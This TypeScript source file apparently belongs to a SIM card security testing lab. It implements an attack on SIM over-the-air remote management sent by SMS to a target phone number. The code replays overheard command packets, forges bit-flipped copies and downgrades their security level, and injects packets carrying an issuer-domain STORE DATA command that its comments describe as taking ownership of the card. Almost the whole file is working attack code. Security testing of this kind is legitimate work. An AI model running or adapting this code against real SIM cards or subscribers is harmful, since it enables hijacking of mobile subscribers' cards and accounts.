// SPDX-License-Identifier: Apache-2.0
import { ESM, SMPP_STATUS, type SmppMessage } from '../../bearer/sms/smpp-pdu.ts';
import { crc32 } from '../../crypto/crc.ts';
import type { SmsLab } from '../../lab/sms.ts';
import { concat } from '../../wire/hex.ts';
import { encodeExpandedScript } from '../../wire/uicc/expanded-script.ts';

/** What one sends to a card who has heard its messages and has no key: again, changed, and of his own. */

const COMMAND_PACKET = 0x70;
/** In user data with its header `02 70 00`: CPL, CHL, SPI, KIc, KID, TAR, and what is enciphered behind them. */
const CPL = 3;
const SPI = 6;
const SECURED = 13;
/** Counter, number of padding bytes, checksum, and the first of the data: each byte is changed. */
const CHECKED = 16;
/** SPI 1 below what the card takes: neither check nor cipher, CRC, CC alone, cipher alone, no counter, any counter. */
const DOWNGRADES = [0x00, 0x01, 0x12, 0x14, 0x06, 0x0e, 0x15];
const ISSUER = [0xb2, 0x01, 0x00];
const HIGHEST = [0xff, 0xff, 0xff, 0xff, 0xfe];
const STRANGER = '6666';

/** STORE DATA of the issuer's domain: whoever can send it owns the card. */
const STORE_DATA = {
  kind: 'command',
  apdu: { cla: 0x80, ins: 0xe2, p1: 0x90, p2: 0x00, data: Uint8Array.of(0x42, 0x01, 0x66) },
} as const;

const changed = (bytes: Uint8Array, at: number, value: (byte: number) => number): Uint8Array =>
  bytes.map((byte, index) => (index === at ? value(byte) : byte));

/** The packet with one bit of each byte changed, and with weaker security named. */
function forged(packet: Uint8Array): Uint8Array[] {
  const places = Array.from({ length: SECURED + CHECKED - CPL }, (_, index) => CPL + index);
  return [
    ...[...places, packet.length - 1].map((at) => changed(packet, at, (byte) => byte ^ 1)),
    ...DOWNGRADES.map((spi) => changed(packet, SPI, () => spi)),
  ];
}

/** Packets with a script of the sender's own: without any check, and with a right CRC-32. */
function invented(): Uint8Array[] {
  const script = encodeExpandedScript({ form: 'definite', items: [STORE_DATA] });
  const packet = (spi: number, kid: number, checked: number) => {
    const length = 0x0e + checked + script.length;
    const head = Uint8Array.of(0, length, 0x0d + checked, spi, 0x01, 0x00, kid, ...ISSUER);
    const counter = Uint8Array.of(...HIGHEST, 0);
    const check = checked === 0 ? new Uint8Array() : crc32(concat(head, counter, script));
    return concat(Uint8Array.of(2, COMMAND_PACKET, 0), head, counter, check, script);
  };
  return [packet(0x00, 0x00, 0), packet(0x01, 0x15, 4), packet(0x11, 0x15, 4)];
}

/**
 * Sends all of that to a number, and waits until the SMSC says that each message came.
 *
 * @param most messages that are sent again as they were heard
 * @returns how many were sent
 */
export async function attack(sms: SmsLab, msisdn: string, most: number): Promise<number> {
  const heard = sms.heard.filter(({ destination }) => destination === msisdn);
  const whole = heard.find(({ userData }) => userData[0] === 2 && userData[1] === COMMAND_PACKET);
  const [like] = heard;
  if (whole === undefined || like === undefined) return 0;
  const sent = [...heard.slice(0, most).map(({ userData }) => userData), ...forged(whole.userData), ...invented()];
  const reported = Promise.withResolvers<void>();
  let reports = 0;
  await using stranger = await sms.stranger(async ({ esmClass }) => {
    if ((esmClass & ESM.TYPE_MASK) === ESM.DELIVERY_RECEIPT) reports += 1;
    if (reports === sent.length) reported.resolve();
    return SMPP_STATUS.OK;
  });
  for (const userData of sent) {
    const message: SmppMessage = { ...like, source: STRANGER, registeredDelivery: 1, userData };
    await stranger.submit(message);
  }
  await reported.promise;
  return sent.length;
}
